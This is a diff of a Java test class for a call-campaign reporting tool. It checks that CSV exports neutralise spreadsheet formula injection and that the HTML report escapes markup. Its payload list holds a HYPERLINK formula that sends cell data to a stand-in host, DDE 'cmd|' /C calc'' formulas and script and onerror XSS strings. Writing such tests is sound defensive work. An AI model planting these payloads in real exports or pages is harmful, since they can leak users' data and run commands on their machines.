@@ -26,8 +26,11 @@ import ru.sipring.campaign.report.OutboundReport;
 import ru.sipring.campaign.report.ReportRenderer;
 import ru.sipring.core.text.SpreadsheetCell;
 
-/** Every campaign CSV writer, fed formula payloads in every text field a customer or a caller controls. */
-class CsvFormulaInjectionTest {
+/**
+ * Every campaign CSV writer fed formula payloads in every text field a customer or a caller controls, and the
+ * outbound report's HTML fed markup.
+ */
+class HostileCellsTest {
   private static final List<String> PAYLOADS = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
       "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1",
       "\uFF1DHYPERLINK(\"x\")", "\uFF20SUM(A1)", " =1+1");
@@ -76,20 +79,8 @@ class CsvFormulaInjectionTest {
 
   @Test
   void outboundReportCsvNeutralisesOutsideTextAndKeepsNegativeMoneyANumber() throws Exception {
+    OutboundReport report = hostileReport(PAYLOADS.get(0));
     String p = PAYLOADS.get(0);
-    OutboundReport.GroupRow g = new OutboundReport.GroupRow(p, Duration.ofMinutes(50), Duration.ofHours(1), 4, 4.0,
-        Duration.ofSeconds(34), 8.5, Duration.ofSeconds(1), Duration.ofSeconds(20), new BigDecimal("-1.50"), 0);
-    OutboundReport.CallRow call = new OutboundReport.CallRow(Instant.parse("2020-06-02T07:00:00Z"), PAYLOADS.get(1),
-        PAYLOADS.get(2), PAYLOADS.get(3), PAYLOADS.get(4), PAYLOADS.get(5), PAYLOADS.get(6), Duration.ofSeconds(8),
-        PAYLOADS.get(7), new BigDecimal("-0.55"), null, "=REC()", "@NOTE()");
-    OutboundReport.DayRow day = new OutboundReport.DayRow(LocalDate.of(2020, 6, 2), "=OP()", "+PRJ()", "-TASK()", 50,
-        4, Duration.ofSeconds(34), BigDecimal.ONE, 8.5);
-    OutboundReport.Report2Row r2 = new OutboundReport.Report2Row(LocalDate.of(2020, 6, 2), "=OP()", "+PRJ()",
-        "-TASK()", "@ASG()", "=KA()", "=KP()", "=EV()", "=TK()", "+79160000001", "=ST()", 0.5,
-        Map.of("Примечание", "=N1()"));
-    OutboundReport report = new OutboundReport(Instant.parse("2020-06-02T00:00:00Z"),
-        Instant.parse("2020-06-03T00:00:00Z"), ZoneId.of("Europe/Moscow"), List.of(g), List.of(g), List.of(g),
-        List.of(g), g, List.of(call), List.of(day), List.of(r2));
     StringWriter csv = new StringWriter();
     ReportRenderer.render(report, ReportRenderer.Format.CSV, csv);
     List<String> cells = cells(csv.toString(), ';');
@@ -103,5 +94,46 @@ class CsvFormulaInjectionTest {
     StringWriter text = new StringWriter();
     ReportRenderer.render(report, ReportRenderer.Format.TEXT, text);
     assertThat(text.toString()).contains("=OP()").doesNotContain("'=OP()");
+  }
+
+  @Test
+  void outboundReportHtmlEscapesMarkupInEveryTable() {
+    String x = "<script>alert(1)</script>&\"<img src=x onerror=alert(2)>";
+    StringWriter html = new StringWriter();
+    ReportRenderer.render(markupReport(x), ReportRenderer.Format.HTML, html);
+    assertThat(html.toString()).doesNotContain("<script").doesNotContain("<img")
+        .contains("&lt;script&gt;alert(1)&lt;/script&gt;&amp;&quot;&lt;img src=x onerror=alert(2)&gt;");
+  }
+
+  /** A report with {@code x} in every text field. */
+  private static OutboundReport markupReport(String x) {
+    OutboundReport.GroupRow g = new OutboundReport.GroupRow(x, Duration.ofMinutes(50), Duration.ofHours(1), 4, 4.0,
+        Duration.ofSeconds(34), 8.5, Duration.ofSeconds(1), Duration.ofSeconds(20), BigDecimal.ONE, 0);
+    OutboundReport.CallRow call = new OutboundReport.CallRow(Instant.parse("2020-06-02T07:00:00Z"), x, x, x, x, x, x,
+        Duration.ofSeconds(8), x, BigDecimal.ONE, null, x, x);
+    OutboundReport.DayRow day = new OutboundReport.DayRow(LocalDate.of(2020, 6, 2), x, x, x, 50, 4,
+        Duration.ofSeconds(34), BigDecimal.ONE, 8.5);
+    OutboundReport.Report2Row r2 = new OutboundReport.Report2Row(LocalDate.of(2020, 6, 2), x, x, x, x, x, x, x, x, x,
+        x, 0.5, Map.of("Примечание", x));
+    return new OutboundReport(Instant.parse("2020-06-02T00:00:00Z"), Instant.parse("2020-06-03T00:00:00Z"),
+        ZoneId.of("Europe/Moscow"), List.of(g), List.of(g), List.of(g), List.of(g), g, List.of(call), List.of(day),
+        List.of(r2));
+  }
+
+  /** A report with a different formula payload in each text field. */
+  private static OutboundReport hostileReport(String p) {
+    OutboundReport.GroupRow g = new OutboundReport.GroupRow(p, Duration.ofMinutes(50), Duration.ofHours(1), 4, 4.0,
+        Duration.ofSeconds(34), 8.5, Duration.ofSeconds(1), Duration.ofSeconds(20), new BigDecimal("-1.50"), 0);
+    OutboundReport.CallRow call = new OutboundReport.CallRow(Instant.parse("2020-06-02T07:00:00Z"), PAYLOADS.get(1),
+        PAYLOADS.get(2), PAYLOADS.get(3), PAYLOADS.get(4), PAYLOADS.get(5), PAYLOADS.get(6), Duration.ofSeconds(8),
+        PAYLOADS.get(7), new BigDecimal("-0.55"), null, "=REC()", "@NOTE()");
+    OutboundReport.DayRow day = new OutboundReport.DayRow(LocalDate.of(2020, 6, 2), "=OP()", "+PRJ()", "-TASK()", 50,
+        4, Duration.ofSeconds(34), BigDecimal.ONE, 8.5);
+    OutboundReport.Report2Row r2 = new OutboundReport.Report2Row(LocalDate.of(2020, 6, 2), "=OP()", "+PRJ()",
+        "-TASK()", "@ASG()", "=KA()", "=KP()", "=EV()", "=TK()", "+79160000001", "=ST()", 0.5,
+        Map.of("Примечание", "=N1()"));
+    return new OutboundReport(Instant.parse("2020-06-02T00:00:00Z"),
+        Instant.parse("2020-06-03T00:00:00Z"), ZoneId.of("Europe/Moscow"), List.of(g), List.of(g), List.of(g),
+        List.of(g), g, List.of(call), List.of(day), List.of(r2));
   }
 }
